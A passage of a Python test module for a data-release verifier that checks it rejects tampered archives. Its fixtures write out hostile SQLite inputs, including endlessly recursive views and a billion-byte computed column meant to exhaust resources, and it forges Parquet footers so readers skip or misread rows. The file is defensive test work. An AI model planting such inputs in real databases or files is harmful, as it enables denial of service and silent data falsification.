"""Archives that are made to run something, to never end, or to take all memory there is.

Each is verified as the command does it, in a process of its own under limits; what it costs is
asserted by what the limits allow, not by a clock.
"""

from __future__ import annotations

import base64
import errno
import json
import os
import re
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from contextlib import closing
from functools import partial
from itertools import pairwise
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest

import claimlog
from claimlog import __version__
from claimlog import limited_process as limited
from claimlog.command_limits import FACTOR_VARIABLE
from claimlog.errors import ClaimlogError, UsageError
from claimlog.export import sqlite as export_sqlite
from claimlog.export.content_hash import Content, sqlite_rows
from claimlog.export.parquet import ParquetFile
from claimlog.export.sqlite import create_statement, index_statements
from claimlog.log import read_file
from claimlog.package import Package
from claimlog.release import archive, checksums, release_limits, walk_release
from claimlog.release.database_content import header_flaw
from claimlog.release.database_objects import FORMS, check_content, check_objects, forms_of
from claimlog.release.descriptor_check import check_descriptors
from claimlog.release.descriptors import PARSERS
from claimlog.release.descriptors.program_values import program_differences
from claimlog.release.make import make_release
from claimlog.release.parquet_footers import footer_flaws, stated_schema, states_bounds_of_codes
from claimlog.release.plain_database import require_plain_database
from claimlog.release.release_copy import open_copy
from claimlog.release.release_limits import limits_of_size
from claimlog.release.release_verdict import Verdict
from claimlog.release.search_segments import SearchSegments
from claimlog.release.table_check import check_tables
from claimlog.release.verify import Check, check_database, run_check, verify_copy
from claimlog.release.verify_process import verify_in_process
from claimlog.release.walk_release import stored_size
from claimlog.schema.definition import read_definition
from claimlog.schema.table_schema import truth_columns
from conftest import ROOT, World, copied
from repositories import DAY, Repo, drop_codebook_tables, repository
from test_reliability import CLERK, coding
from test_verify import restated, resum
from thrift_rewriting import Typed, TypedCompact, written_struct

READING = {
    "reading_id": "first-reading",
    "title": "All rows",
    "claims_read": 5,
    "method": "Invented.",
    "readers": ["coder-2"],
}


@pytest.fixture(scope="module")
def released(made: World, tmp_path_factory: pytest.TempPathFactory) -> Repo:
    world = copied(made, tmp_path_factory.mktemp("hostile"))
    world.add("codings", [coding(CLERK, "coder-1")])
    world.add("readings", [READING])
    world.seal("judged")
    drop_codebook_tables(world.root)
    repo = repository(world)
    make_release(repo.package, "0.1.0", DAY, repo.root / "dist")
    return repo


@pytest.fixture
def folder(released: Repo, tmp_path: Path) -> Path:
    target = tmp_path / "tiny-0.1.0"
    shutil.copytree(released.root / "dist" / "tiny-0.1.0", target)
    return target


def pack(folder: Path) -> Path:
    """Make checksums and archive agree with the files, as whoever tampers would."""
    resum(folder)
    target = folder.with_name(f"{folder.name}.zip")
    archive.write_archive(folder, target)
    return target


def findings(folder: Path) -> str:
    return "\n".join(map(str, verify_in_process(pack(folder)).findings))


def flaws(folder: Path, *checks: Check) -> str:
    """Return the findings of a forgery that costs nothing to read, of all checks or of some."""
    resum(folder)
    verdict = Verdict()
    if checks:
        with open_copy(folder) as copy:
            for check in checks:
                run_check(check, copy, verdict)
    else:
        verdict = verify_copy(folder)
    return "\n".join(map(str, verdict.findings))


def alter(folder: Path, *statements: str) -> None:
    """Change the SQLite file."""
    database = sqlite3.connect(folder / "tiny.db")
    for statement in statements:
        database.execute(statement)
    database.commit()
    database.close()


@pytest.mark.usefixtures("fresh_programs")
def test_a_sound_archive_passes_within_the_limits(folder: Path) -> None:
    verdict = verify_in_process(pack(folder))
    assert verdict.findings == []
    assert len(verdict.checks) >= 6
    assert verdict.sentence.startswith("release 0.1.0 of tiny is consistent with itself")


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT"
COMPUTED: dict[str, tuple[str, ...]] = {
    "a view without end in place of a table": (
        "DROP TABLE links",
        f"CREATE VIEW links AS {ENDLESS} i AS link_id FROM n",
    ),
    "a view beside the tables": (f"CREATE VIEW more AS {ENDLESS} i FROM n",),
    "a trigger": ("CREATE TRIGGER t AFTER INSERT ON claims BEGIN DELETE FROM links; END",),
    "a computed column": ("ALTER TABLE links ADD COLUMN big TEXT AS (hex(zeroblob(1000000000)))",),
    "an index on an expression": ("CREATE INDEX i ON claims (hex(statement))",),
    "a partial index": ("CREATE INDEX i ON claims (topic) WHERE topic IS NULL",),
    "a table of its own": ("CREATE TABLE more (x)",),
    "a search index of its own": ("CREATE VIRTUAL TABLE more USING fts5(x)",),
}


NEVER_READ = ("a view without end in place of a table", "a computed column")
"""What would cost without end, where anything of a whole verification read it."""


@pytest.mark.slow
@pytest.mark.parametrize("what", COMPUTED)
def test_a_database_that_computes_is_refused_before_a_row_is_read(what: str, folder: Path) -> None:
    alter(folder, *COMPUTED[what])
    said = findings(folder) if what in NEVER_READ else flaws(folder, check_database)
    assert "[release-database]" in said
    assert "tiny.db" in said


@pytest.mark.parametrize("tool", [None, "0.3.0", __version__])
@pytest.mark.parametrize("form", FORMS)
def test_a_table_is_as_the_tool_of_its_release_made_it(
    form: tuple[bool, bool], tool: str | None, tmp_path: Path
) -> None:
    """Columns of yes and no had no check up to 0.3.0."""
    tables = read_definition(Package(ROOT)).tables
    [name] = [name for name, table in tables.items() if truth_columns(table)]
    path = tmp_path / "x.db"
    statement = create_statement(tables[name], *form)
    forms = {create_statement(tables[name], *form) for form in forms_of(tool)}
    other = int(statement not in forms)
    for sql, flaws in ((statement, other), (statement.replace("TEXT", "BLOB", 1), 1)):
        path.unlink(missing_ok=True)
        with closing(sqlite3.connect(path)) as database:
            for command in (sql, *index_statements(tables[name])):
                database.execute(command)
        found = [*map(str, check_objects(path, {name: tables[name]}, (), tool))]
        assert len([said for said in found if "other columns than its schema" in said]) == flaws
        assert len(found) == flaws


def test_no_object_of_a_database_is_behind_those_that_are_looked_at(tmp_path: Path) -> None:
    """Views that a definition gives by the thousand hid what came after them."""
    path = tmp_path / "x.db"
    views = [f'CREATE VIEW "v{number}" AS SELECT 1' for number in range(10_000)]
    with closing(sqlite3.connect(path)) as database:
        database.execute("PRAGMA writable_schema = ON")
        rows = [("view", sql[13:].split('"')[0], sql[13:].split('"')[0], sql) for sql in views]
        database.executemany("INSERT INTO sqlite_schema VALUES (?, ?, ?, 0, ?)", rows)
        database.execute("CREATE TABLE own (x)")
        database.commit()
    [finding] = check_objects(path, {}, views, None)
    assert "holds more than 10,000 tables, indexes and views" in str(finding)
    with pytest.raises(ClaimlogError, match=r"holds more than 10,000 tables"):
        require_plain_database(path, "x.db")


def test_a_column_that_is_not_of_the_definition_is_named(folder: Path) -> None:
    alter(folder, "ALTER TABLE links ADD COLUMN more TEXT")
    assert "'links' has other columns than its schema" in flaws(folder, check_database)


OTHERWISE = {
    "a collation": ('"statement" TEXT', '"statement" TEXT COLLATE NOCASE'),
    "a default": ('"note" TEXT', "\"note\" TEXT DEFAULT 'x'"),
    "a condition": ('"note" TEXT', '"note" TEXT CHECK (1)'),
    "no key": ('PRIMARY KEY ("claim_id")', 'UNIQUE ("claim_id")'),
    "no strictness": (") STRICT", ")"),
}


@pytest.mark.parametrize("what", OTHERWISE)
def test_a_table_that_is_created_otherwise_is_named(what: str, folder: Path) -> None:
    old, new = OTHERWISE[what]
    database = sqlite3.connect(folder / "tiny.db")
    database.execute("PRAGMA writable_schema = ON")
    query = "UPDATE sqlite_schema SET sql = replace(sql, ?, ?) WHERE name = 'claims' AND sql != ''"
    before = database.total_changes
    database.execute(query, (old, new))
    assert database.total_changes > before
    database.commit()
    database.close()
    assert "[release-database]" in flaws(folder, check_database)


def test_a_missing_or_other_index_is_named(folder: Path) -> None:
    with closing(sqlite3.connect(folder / "tiny.db")) as database:
        query = "SELECT name FROM sqlite_schema WHERE type = 'index' AND sql != '' LIMIT 1"
        [(name,)] = database.execute(query).fetchall()
    alter(folder, f'DROP INDEX "{name}"', 'CREATE INDEX "more" ON "claims" ("note")')
    said = flaws(folder, check_database)
    assert f'CREATE INDEX "{name}"' in said
    assert "'more' is an index that the definition does not give" in said


SEARCHES = {
    "emptied": ("INSERT INTO claims_fts(claims_fts) VALUES ('delete-all')",),
    "without a row": (
        "INSERT INTO claims_fts(claims_fts, rowid, statement) "
        "SELECT 'delete', rowid, statement FROM claims LIMIT 1",
    ),
    "with other words": ("INSERT INTO claims_fts(rowid, statement) VALUES (1, 'forged')",),
    "ranked otherwise": ("INSERT INTO claims_fts(claims_fts, rank) VALUES ('rank', 'bm25(-1.0)')",),
    "dropped": ("DROP TABLE claims_fts",),
}


@pytest.mark.parametrize("what", SEARCHES)
def test_a_search_that_would_miss_rows_is_named(what: str, folder: Path) -> None:
    alter(folder, *SEARCHES[what])
    assert "tiny.db: 'claims_fts' " in flaws(folder, check_database)


@pytest.mark.slow
def test_a_database_with_a_log_of_changes_is_named(folder: Path) -> None:
    """We read the file alone; every other program would read the log too."""
    path = folder / "tiny.db"
    with closing(sqlite3.connect(path)) as database:
        database.execute("PRAGMA journal_mode = WAL")
        database.execute("PRAGMA wal_autocheckpoint = 0")
        database.execute("UPDATE claims SET statement = 'Forged.'")
        database.commit()
        changes = path.with_name("tiny.db-wal").read_bytes()
    alter(folder, "PRAGMA journal_mode = WAL")
    path.with_name("tiny.db-wal").write_bytes(changes)
    said = flaws(folder)
    assert "tiny.db-wal: is no file that a release of this definition holds" in said
    assert "'the file' says that a log of changes lies beside it" in said


EXTRA = (
    *("tiny.db-journal", "tiny.db-shm", "other.db.txt", "run-me.sh", "conftest.py", ".env"),
    *("parquet/verdicts.parquet", "parquet/claims.csv", "log/events/README.md"),
    *(
        "log/schemas/run.py",
        "log/schemas/run.sql",
        "log/releases/latest.json",
        "log/docs/more.md",
        "log/pyproject.toml",
    ),
    *("log/events/0001-sources/more.txt", "log/releases/0.0.1.json.bak", "log/.claimlog/notes"),
)
UNNAMED = (
    *("log/schemas/payload.csv", "log/schemas/package.json", "log/schemas/codebook/more.csv"),
    "log/schemas/node_modules/evil/package.json",
)
"""Files that could belong to another definition, by their form alone."""


@pytest.mark.slow
@pytest.mark.parametrize("names", [EXTRA, UNNAMED], ids=["no form", "no name"])
def test_a_file_that_no_release_holds_is_named_although_it_is_listed(
    names: tuple[str, ...], folder: Path
) -> None:
    for name in names:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("{}")
    said = flaws(folder)
    assert [
        n for n in names if f"{n}: is no file that a release of this definition" not in said
    ] == []


def footer(path: Path, *changes: tuple[bytes, bytes]) -> None:
    """Replace bytes of the same length in a Parquet file, after its last page."""
    data = path.read_bytes()
    group = pq.read_metadata(path).row_group(0)
    columns = [group.column(at) for at in range(group.num_columns)]
    end = max(
        (c.dictionary_page_offset or c.data_page_offset) + c.total_compressed_size for c in columns
    )
    rest = data[end:]
    for old, new in changes:
        assert len(old) == len(new)
        assert old in rest
        rest = rest.replace(old, new)
    path.write_bytes(data[:end] + rest)


VERSION = f"version {pa.__version__}".encode()
OTHER_VERSION = b"version " + b"9" * (len(VERSION) - 12) + b".0.0"


@pytest.mark.slow
@pytest.mark.parametrize("library", [False, True], ids=["ours", "another"])
def test_statistics_by_which_a_reader_would_skip_rows_are_named(
    library: bool, folder: Path
) -> None:
    path = folder / "parquet" / "claims.parquet"
    said = pq.read_metadata(path)
    bounds = said.row_group(0).column(said.schema.names.index("claim_id")).statistics
    changes = [(b.encode(), b"X" + b.encode()[1:]) for b in (bounds.min, bounds.max)]
    if library:
        changes.append((VERSION, OTHER_VERSION))
    footer(path, *changes)
    lost = pl.scan_parquet(path).filter(pl.col("claim_id") == bounds.min).collect()
    assert lost.height == 0
    assert pl.read_parquet(path)["claim_id"].min() == bounds.min
    assert "parquet/claims.parquet: claim_id has other bounds than the file states" in flaws(
        folder, check_tables
    )


@pytest.mark.slow
def test_an_index_of_pages_by_which_a_reader_would_skip_rows_is_named(folder: Path) -> None:
    path = folder / "parquet" / "claims.parquet"
    data = path.read_bytes()
    start = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
    bound = pl.read_parquet(path)["claim_id"].max().encode()  # type: ignore[union-attr]
    at = data.rindex(bound, 0, start)  # in the index, which lies before the footer
    path.write_bytes(data[:at] + b"A" + data[at + 1 :])
    said = flaws(folder, check_tables)
    assert "claims.parquet: is not to the byte what parquet-cpp-arrow" in said


@pytest.mark.slow
def test_a_file_at_which_a_library_panics_is_named(folder: Path) -> None:
    path = folder / "parquet" / "claims.parquet"
    metadata = pq.read_metadata(path).metadata
    assert metadata is not None
    stated = metadata[b"ARROW:schema"]
    inner = base64.b64decode(stated)
    words = max(pq.read_schema(path).metadata.values(), key=len)  # about the table
    spoilt = inner.replace(words, b"\x88" + words[1:])
    assert spoilt != inner
    footer(path, (stated, base64.b64encode(spoilt)))
    with pytest.raises(pl.exceptions.PanicException):
        pl.from_arrow(pq.read_table(path))
    said = flaws(folder)
    assert "parquet/claims.parquet: cannot be read: Polars cannot take these rows" in said


@pytest.mark.slow
def test_a_parquet_file_of_another_version_is_compared_as_far_as_it_can_be(folder: Path) -> None:
    footer(folder / "parquet" / "claims.parquet", (VERSION, OTHER_VERSION))
    resum(folder)
    verdict = verify_copy(folder)
    assert not any(finding.rule == "release-parquet" for finding in verdict.findings)
    assert any("the pages of 1 Parquet files, parquet/claims" in it for it in verdict.omissions)


def footer_bytes(path: Path) -> tuple[bytes, bytes]:
    """Return a Parquet file up to its footer, and the footer."""
    data = path.read_bytes()
    start = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
    return data[:start], data[start:-8]


def with_footer(pages: bytes, told: bytes) -> bytes:
    return pages + told + len(told).to_bytes(4, "little") + b"PAR1"


def moved(field: bytes, number: int) -> Callable[[bytes, bytes], bytes]:
    """Return what adds one to a number of a footer, which stands behind the head of its field."""

    def change(pages: bytes, told: bytes) -> bytes:
        old, new = (field + varint(2 * it) for it in (number, number + 1))
        assert len(old) == len(new)
        at = told.rindex(old)
        return with_footer(pages, told[:at] + new + told[at + len(old) :])

    return change


def packed_bytes(path: Path) -> int:
    group = pq.read_metadata(path).row_group(0)
    return sum(group.column(at).total_compressed_size for at in range(group.num_columns))


FOOTERS: dict[str, tuple[Callable[[Path], Callable[[bytes, bytes], bytes]], str]] = {
    # the field before is told of too, so that no other number is found
    "the packed size of a row group": (
        lambda path: moved(b"\x16\x08\x16", packed_bytes(path)),
        "states another size or place of row group 0",
    ),
    "the size of a row group": (
        lambda path: moved(b"\x16", pq.read_metadata(path).row_group(0).total_byte_size),
        "states another size or place of row group 0",
    ),
    "bytes before the footer": (
        lambda _: lambda pages, told: with_footer(pages + b"SECRET", told),
        "bytes that belong to no column",
    ),
    "bytes behind the footer's last field": (
        lambda _: lambda pages, told: with_footer(pages, told + b"SECRET"),
        "more than our writer puts there",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("left", [5, 6], ids=["the largest value", "the smallest value"])
def test_a_bound_that_stands_alone_is_named(left: int, folder: Path) -> None:
    """Polars skips rows by it, and Arrow believes no bound without the other."""
    path = folder / "parquet" / "claims.parquet"
    sought = pl.col("claim_id") == pl.read_parquet(path)["claim_id"].max()
    footer(path, (VERSION, OTHER_VERSION))
    pages, told = footer_bytes(path)
    fields = TypedCompact(told, "the footer").typed_struct()
    assert written_struct(fields) != b""
    column = fields[4][1][1][0][1][1][1][0][3][1]  # of the first group, the first column
    assert column[3][1][1] == [b"claim_id"]
    statistics = column[12][1]
    del statistics[11 - left]
    statistics[left] = (8, b"\x01" if left == 5 else b"zzzz")
    path.write_bytes(with_footer(pages, written_struct(fields)))
    assert pq.read_table(path, filters=sought_by(path)).num_rows == 1
    assert pl.scan_parquet(path).filter(sought).collect().height == 0
    assert "claim_id has other bounds than the file states" in flaws(folder, check_tables)


def test_bounds_of_all_codes_are_those_that_earlier_releases_state(folder: Path) -> None:
    """Arrow takes a code for used where all others are, and some rows have none."""
    table = read_definition(Package(folder / "log", archived=True)).tables["claims"]
    item = next(item for item in table.fields if item.enum and not item.required)
    assert item.enum
    unused = min(item.enum)
    codes = pa.array([code for code in item.enum if code != unused] + [None])
    path = folder / "parquet" / "claims.parquet"
    types = stated_schema(path)
    at = types.get_field_index(item.name)
    with pq.ParquetFile(path) as file:
        row = file.read().slice(0, 1)
    places = [None if code is None else item.enum.index(code) for code in codes.to_pylist()]
    indices = pa.array(places, types.field(at).type.index_type)
    column = pa.DictionaryArray.from_arrays(indices, pa.array(item.enum))
    rows = pa.concat_tables([row] * len(codes)).set_column(at, item.name, column)
    earlier = ParquetFile(
        path, table, types.with_metadata(row.schema.metadata), are_codes_bounded=True
    )
    earlier.add_arrow(rows)
    earlier.close()
    assert pq.read_metadata(path).row_group(0).column(at).statistics.min == unused
    assert states_bounds_of_codes(path)
    said = f"{item.name} has other bounds than the file states"
    assert [*footer_flaws(path, table, has_code_bounds=True)] == []
    assert [*footer_flaws(path, table, has_code_bounds=False)] == [said]
    footer(path, (unused.encode(), unused.encode()[:-1] + b"!"))
    assert [*footer_flaws(path, table, has_code_bounds=True)] == [said]


@pytest.mark.slow
@pytest.mark.parametrize("tool", ["0.3.0", __version__])
def test_only_a_release_of_a_tool_that_wrote_them_has_bounds_of_codes(
    tool: str, folder: Path
) -> None:
    restated(folder, tool_version=tool)
    path = folder / "parquet" / "claims.parquet"
    table = read_definition(Package(folder / "log", archived=True)).tables["claims"]
    with pq.ParquetFile(path) as file:
        rows = file.read()
    types = stated_schema(path).with_metadata(rows.schema.metadata)
    earlier = ParquetFile(path, table, types, are_codes_bounded=True)
    earlier.add_arrow(rows)
    earlier.close()
    said = flaws(folder, check_tables)
    assert ("is not to the byte what" in said) is (tool == __version__), said
    assert bool(said) is (tool == __version__)


def rewritten(path: Path, change: Callable[[pa.Table], pa.Table], **given: Any) -> None:
    """Write a table of a release anew as another version of Arrow might."""
    definition = read_definition(Package(path.parent.parent / "log", archived=True))
    key = definition.tables[path.stem].primary_key
    with pq.ParquetFile(path) as file:
        rows = file.read()
    rows = change(rows.cast(stated_schema(path).with_metadata(rows.schema.metadata)))
    order = [pq.SortingColumn(rows.schema.names.index(name)) for name in key]
    pq.write_table(rows, path, sorting_columns=order, **{"compression": "zstd", **given})
    footer(path, (VERSION, OTHER_VERSION))


def later(rows: pa.Table) -> pa.Table:
    """Move the times of all rows by less than the second that SQLite shows."""
    at = rows.schema.get_field_index("recorded_at")
    moved = pc.add(rows["recorded_at"], pa.scalar(999_999, pa.duration("us")))
    return rows.set_column(at, rows.schema.field(at), moved)


def further_code(rows: pa.Table) -> pa.Table:
    at = rows.schema.get_field_index("topic")
    column = rows["topic"].combine_chunks()
    codes = pa.array([*column.dictionary.to_pylist(), "of nobody"], column.dictionary.type)
    changed = pa.DictionaryArray.from_arrays(column.indices, codes, ordered=column.type.ordered)
    return rows.set_column(at, rows.schema.field(at), changed)


TABLES: dict[str, tuple[Callable[[pa.Table], pa.Table], str]] = {
    "fractions of a second": (later, "row of claims differs from the log in recorded_at"),
    "a code of nobody": (further_code, "has codes of topic that its schema does not have"),
}


@pytest.mark.slow
@pytest.mark.parametrize("what", TABLES)
def test_a_table_that_another_version_of_arrow_wrote_is_compared_to_the_last_digit(
    what: str, folder: Path
) -> None:
    change, said = TABLES[what]
    path = folder / "parquet" / "claims.parquet"
    rewritten(path, change)
    assert said in flaws(folder, check_tables)


@pytest.mark.slow
def test_a_text_that_has_two_codes_in_a_table_is_named(folder: Path) -> None:
    """Arrow moves all codes behind it, where somebody reads the column as codes."""
    path = folder / "parquet" / "claims.parquet"
    rewritten(path, lambda rows: rows, compression="none")
    assert flaws(folder, check_tables) == ""
    with pq.ParquetFile(path) as file:
        first, second, *_ = dict.fromkeys(file.read()["quote_sha256"].to_pylist())
    data = path.read_bytes()
    column = next(
        column
        for column in map(pq.read_metadata(path).row_group(0).column, range(200))
        if column.path_in_schema == "quote_sha256"
    )
    start, end = column.dictionary_page_offset, column.data_page_offset
    codes = data[start:end].replace(second.encode(), first.encode())
    assert codes != data[start:end]
    path.write_bytes(data[:start] + codes + data[end:])
    assert "the dictionary of quote_sha256 has a text twice" in flaws(folder, check_tables)


@pytest.mark.slow
def test_lists_that_end_elsewhere_in_one_property_of_their_objects_are_named(folder: Path) -> None:
    """Arrow and Polars go by the first and the last property, DuckDB by each one's own."""
    path = folder / "parquet" / "claim_versions.parquet"
    other = folder.parent / "other" / "parquet" / path.name
    other.parent.mkdir(parents=True)
    shutil.copy(path, other)
    shutil.copytree(folder / "log", folder.parent / "other" / "log")

    def exchanged_lists(rows: pa.Table) -> pa.Table:
        at = rows.schema.get_field_index("attributions")
        kind = rows.schema.field(at)
        lists = rows["attributions"].to_pylist()
        full, bare = (next(n for n, one in enumerate(lists) if bool(one) == it) for it in (1, 0))
        lists[full], lists[bare] = lists[bare], lists[full]
        return rows.set_column(at, kind, pa.array(lists, kind.type))

    given: dict[str, Any] = {"compression": "none", "use_dictionary": False}
    rewritten(path, lambda rows: rows, **given)
    rewritten(other, exchanged_lists, **given)
    name = "attributions.list.element.anonymity"
    said, its = (
        next(
            column
            for column in map(pq.read_metadata(one).row_group(0).column, range(200))
            if column.path_in_schema == name
        )
        for one in (path, other)
    )
    size, begin, first = said.total_compressed_size, said.data_page_offset, its.data_page_offset
    assert size == its.total_compressed_size
    data = path.read_bytes()
    page = other.read_bytes()[first : first + size]
    path.write_bytes(data[:begin] + page + data[begin + size :])
    assert f"{name} says of its lists and objects otherwise than" in flaws(folder, check_tables)


@pytest.mark.slow
def test_pages_that_programs_pass_over_are_named(folder: Path) -> None:
    """A file that another version of Arrow wrote has its bounds before each page, too."""
    path = folder / "parquet" / "claims.parquet"
    rewritten(path, lambda rows: rows)
    assert flaws(folder, check_tables) == ""
    first = pq.read_metadata(path).row_group(0).column(0)
    data, least = path.read_bytes(), first.statistics.min.encode()
    at = data.index(least, first.data_page_offset)
    assert at < first.data_page_offset + 100
    path.write_bytes(data[:at] + least[:-1] + b"!" + data[at + len(least) :])
    assert "claim_id has other bounds than the file states" in flaws(folder, check_tables)


def sought_by(path: Path) -> list[tuple[str, str, object]]:
    return [("claim_id", "=", pl.read_parquet(path)["claim_id"].max())]


def exchanged(fields: dict[int, Typed]) -> None:
    """Two columns of the first group name each other's path, with the bounds of what it names."""
    chunks = [chunk[3][1] for chunk in fields[4][1][1][0][1][1][1]]
    one, other = (
        next(chunk for chunk in chunks if chunk[3][1][1] == [name])
        for name in (b"claim_id", b"source_id")
    )
    for field in (3, 12):
        one[field], other[field] = other[field], one[field]


def hundredths(fields: dict[int, Typed]) -> None:
    """Arrow believes the logical type of a column, DuckDB the converted one."""
    element = next(element for element in fields[2][1][1] if element[4][1] == b"start")
    whole = (12, {10: (12, {1: (3, 64), 2: (1, None)})})
    element.update({6: (5, 5), 7: (5, 2), 8: (5, 18), 10: whole})


FOUND = "select count(*) from '{}' where claim_id = 'C001-001'"
SCHEMAS = {
    exchanged: (FOUND, "has source_id in place of another column"),
    hundredths: ("select min(start) from '{}'", "says otherwise of the type of start"),
}


@pytest.mark.slow
@pytest.mark.parametrize("change", SCHEMAS, ids=lambda change: change.__name__)
def test_a_schema_that_readers_take_differently_is_named(
    change: Callable[[dict[int, Typed]], None], folder: Path
) -> None:
    question, said = SCHEMAS[change]
    path = folder / "parquet" / "claims.parquet"
    rows, answer = pq.read_table(path), duckdb.sql(question.format(path)).fetchall()
    footer(path, (VERSION, OTHER_VERSION))
    pages, told = footer_bytes(path)
    fields = TypedCompact(told, "the footer").typed_struct()
    change(fields)
    path.write_bytes(with_footer(pages, written_struct(fields)))
    assert pq.read_table(path).equals(rows)
    assert duckdb.sql(question.format(path)).fetchall() != answer
    assert f"parquet/claims.parquet: {said}" in flaws(folder, check_tables)


READ_OTHERWISE: dict[str, tuple[Callable[[dict[int, Typed]], None], str]] = {
    # other readers take what is in it for structs, whatever the list states
    "a list of another type": (
        lambda fields: fields.update({7: (9, (8, [b""] * len(fields[7][1][1])))}),
        "holds what none does",
    ),
    # which they pass over
    "a number of another type": (
        lambda fields: fields[4][1][1][0].update({7: (5, 0)}),
        "holds what none does",
    ),
    # of which they keep a part
    "a number that has no room": (
        lambda fields: fields.update({1: (5, fields[1][1] + (1 << 33))}),
        "holds what none does",
    ),
    # which ends the reading of Polars
    "an order of values that is none": (
        lambda fields: fields.update({7: (9, (12, [{}] * len(fields[7][1][1])))}),
        "states another order of values",
    ),
    "a further field": (
        lambda fields: fields.update({8: (8, b"x")}),
        "more than our writer puts there",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("what", READ_OTHERWISE)
def test_a_footer_in_which_readers_find_other_things_is_named(what: str, folder: Path) -> None:
    change, said = READ_OTHERWISE[what]
    path = folder / "parquet" / "claims.parquet"
    footer(path, (VERSION, OTHER_VERSION))
    pages, told = footer_bytes(path)
    fields = TypedCompact(told, "the footer").typed_struct()
    change(fields)
    path.write_bytes(with_footer(pages, written_struct(fields)))
    found = flaws(folder, check_tables)
    assert re.search(rf"parquet/claims\.parquet: .*{said}", found), found


def test_a_zero_that_is_negative_is_in_order_in_a_table(folder: Path) -> None:
    """A coefficient may round to one, as in releases that were made before it was looked for."""
    table = read_definition(Package(folder / "log", archived=True)).tables["reliability"]
    path = folder / "parquet" / "reliability.parquet"
    schema = pq.read_schema(path)
    row = {item.name: 1 if item.type == "integer" else "x" for item in table.fields}
    row |= {item.name: -0.0 for item in table.fields if item.type == "number"}
    coded = {item.name: item.enum[0] for item in table.fields if item.enum}
    columns = [pa.array([{**row, **coded}[field.name]]).cast(field.type) for field in schema]
    writer = ParquetFile(path, table, schema)
    writer.add_arrow(pa.Table.from_arrays(columns, schema=schema))
    writer.close()
    assert str(pq.read_table(path)["alpha"][0]) == "-0.0"
    assert [*footer_flaws(path, table, has_code_bounds=False)] == []


@pytest.mark.slow
@pytest.mark.parametrize("what", FOOTERS)
def test_what_a_footer_tells_other_programs_alone_is_named(what: str, folder: Path) -> None:
    """Spark reads no row of a group whose stated size is large, and Arrow passes over that size."""
    change_of, said = FOOTERS[what]
    path = folder / "parquet" / "claims.parquet"
    rows = pq.read_table(path).num_rows
    change = change_of(path)
    footer(path, (VERSION, OTHER_VERSION))
    path.write_bytes(change(*footer_bytes(path)))
    assert pq.read_table(path).num_rows == rows
    assert re.search(rf"parquet/claims\.parquet: .*{said}", flaws(folder, check_tables))


@pytest.mark.slow
def test_a_parquet_file_of_another_writer_does_not_pass(folder: Path) -> None:
    """Arrow shows no statistics of some writers, by which other readers skip rows."""
    own = b"parquet-cpp-arrow " + VERSION
    other = b"parquet-mr version 1.7.0 (build 12345678)"[: len(own)]
    path = folder / "parquet" / "claims.parquet"
    footer(path, (own, other.ljust(len(own))))
    said = flaws(folder, check_tables)
    assert "parquet/claims.parquet: was written by 'parquet-mr version 1.7.0" in said


@pytest.mark.slow
@pytest.mark.parametrize("place", ["first", "second"])
def test_a_column_that_lies_in_two_places_is_named(place: str, folder: Path) -> None:
    """One reader begins at the dictionary, another at the first page."""
    path = folder / "parquet" / "links.parquet"
    table = pq.read_table(path)
    if not table.num_rows:
        pytest.fail("the fixture has no links")
    column = pq.read_metadata(path).row_group(0).column(0 if place == "first" else 2)
    data = path.read_bytes()
    start = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
    number = varint(2 * column.data_page_offset)  # zigzag, as Thrift writes integers
    moved = varint(2 * (column.data_page_offset + 1))
    at = data.index(number, start)
    assert len(number) == len(moved)
    path.write_bytes(data[:at] + moved + data[at + len(number) :])
    assert "parquet/links.parquet" in flaws(folder, check_tables)


def varint(value: int) -> bytes:
    parts = []
    while value > 127:
        parts.append(value & 127 | 128)
        value >>= 7
    return bytes([*parts, value])


@pytest.mark.parametrize("reads_records", [True, False])
def test_words_that_a_search_would_not_find_are_named_although_checksums_agree(
    reads_records: bool, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """FTS5 adds up words as ``9 * sum + byte``: one letter more, the next nine less."""
    database = sqlite3.connect(folder / "tiny.db")
    [(word,)] = database.execute(
        "SELECT statement FROM claims WHERE statement GLOB '*[a-y][m-z]*' LIMIT 1"
    ).fetchall()
    columns = [row[1] for row in database.execute("PRAGMA table_info(claims_fts)")]
    listed, marks = ", ".join(columns), ", ".join("?" * len(columns))
    rowid, *old = database.execute(
        f"SELECT rowid, {listed} FROM claims WHERE statement = ?", (word,)
    ).fetchone()
    first, last = next((a, b) for a, b in pairwise(word) if "a" <= a < "z" and b > "l")
    swapped = word.replace(first + last, chr(ord(first) + 1) + chr(ord(last) - 9), 1)
    new = [swapped if value == word else value for value in old]
    remove = f"INSERT INTO claims_fts(claims_fts, rowid, {listed}) VALUES ('delete', ?, {marks})"
    database.execute(remove, (rowid, *old))
    insert = f"INSERT INTO claims_fts(rowid, {listed}) VALUES (?, {marks})"
    database.execute(insert, (rowid, *new))
    database.commit()
    database.execute("INSERT INTO claims_fts(claims_fts, rank) VALUES ('integrity-check', 1)")
    database.close()
    if not reads_records:  # what SQLite reads is compared whatever we read
        monkeypatch.setattr(SearchSegments, "postings", lambda _: iter(()))
    assert "tiny.db: 'claims_fts' does not hold the words of its table" in flaws(
        folder, check_database
    )


OTHER_PAGES = (
    "INSERT INTO claims_fts(claims_fts, rank) VALUES ('pgsz', 64)",
    "INSERT INTO claims_fts(claims_fts) VALUES ('rebuild')",
    "DELETE FROM claims_fts_config WHERE k = 'pgsz'",
)
"""An index with more and smaller pages, as another version of SQLite might write it."""

STRAYS = {
    "a page under a word that stands before it": (
        "UPDATE claims_fts_idx SET term = '0a' WHERE pgno = (SELECT min(pgno) FROM claims_fts_idx "
        "WHERE pgno > 2)"
    ),
    "a page that is led to twice": (
        "INSERT INTO claims_fts_idx SELECT segid, CAST(term || 'zz' AS BLOB), pgno "
        "FROM claims_fts_idx WHERE pgno = (SELECT max(pgno) FROM claims_fts_idx)"
    ),
